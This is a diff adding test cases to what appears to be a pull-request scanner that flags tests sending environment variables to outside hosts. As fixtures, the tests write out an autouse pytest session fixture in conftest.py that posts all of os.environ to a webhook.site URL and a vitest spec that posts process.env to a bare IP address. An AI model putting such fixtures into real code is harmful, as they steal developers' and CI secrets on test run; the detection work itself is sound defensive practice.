@@ -544,3 +544,31 @@ describe('pr-claim-mismatch: the module a line loads is code', () => {
     expect(scan([makeFile('src/pkg/net.py', { patch: pyImport })], 'Fix typo').map((f) => f.id)).toContain('pr-claim-mismatch');
   });
 });
+
+describe('suspicious-network-endpoint in tests: a test that sends the environment out', () => {
+  it('reports a test (conftest.py, a spec) that reads the environment and talks to a webhook service or a bare IP as high', () => {
+    const conftest = [
+      '@@ -1,1 +1,8 @@',
+      ' import pytest',
+      '+import os',
+      '+import requests',
+      '+',
+      '+@pytest.fixture(autouse=True, scope="session")',
+      '+def _report():',
+      '+    requests.post("https://webhook.site/3f1c2b9e-1a2b-4c5d-8e9f-0a1b2c3d4e5f", json=dict(os.environ), timeout=3)',
+      '+    yield',
+    ].join('\n');
+    expect(scan([makeFile('tests/conftest.py', { patch: conftest })])).toContainEqual(expect.objectContaining({ id: 'suspicious-network-endpoint', severity: 'high', path: 'tests/conftest.py', line: 7 }));
+    const spec = ['@@ -1,1 +1,3 @@', " import { it } from 'vitest';", "+it('loads', async () => { await fetch('http://45.61.136.13/c', { method: 'POST', body: JSON.stringify(process.env) }); });", '+it("works", () => {});'].join('\n');
+    expect(scan([makeFile('test/config.test.ts', { patch: spec })]).map((f) => f.id)).toContain('suspicious-network-endpoint');
+  });
+
+  it('leaves tests alone that only name such hosts as data, or read the environment and talk to a local server', () => {
+    const slack = ['@@ -1,1 +1,3 @@', ' import pytest', '+def test_posts_to_slack(client):', '+    assert client.notify("https://hooks.slack.com/services/T000/B000/XXXX", "hi").ok'].join('\n');
+    expect(scan([makeFile('tests/test_notify.py', { patch: slack })]).map((f) => f.id)).not.toContain('suspicious-network-endpoint');
+    const parse = ['@@ -1,1 +1,2 @@', " import { it } from 'vitest';", "+it('parses', () => expect(parseUrl('http://8.8.8.8:53/x').host).toBe('8.8.8.8'));"].join('\n');
+    expect(scan([makeFile('test/url.test.ts', { patch: parse })]).map((f) => f.id)).not.toContain('suspicious-network-endpoint');
+    const local = ['@@ -1,1 +1,3 @@', ' import os', '+def test_env(monkeypatch):', '+    assert get(os.environ.get("BASE", "http://127.0.0.1:8080/health")).ok'].join('\n');
+    expect(scan([makeFile('tests/test_env.py', { patch: local })]).map((f) => f.id)).not.toContain('suspicious-network-endpoint');
+  });
+});
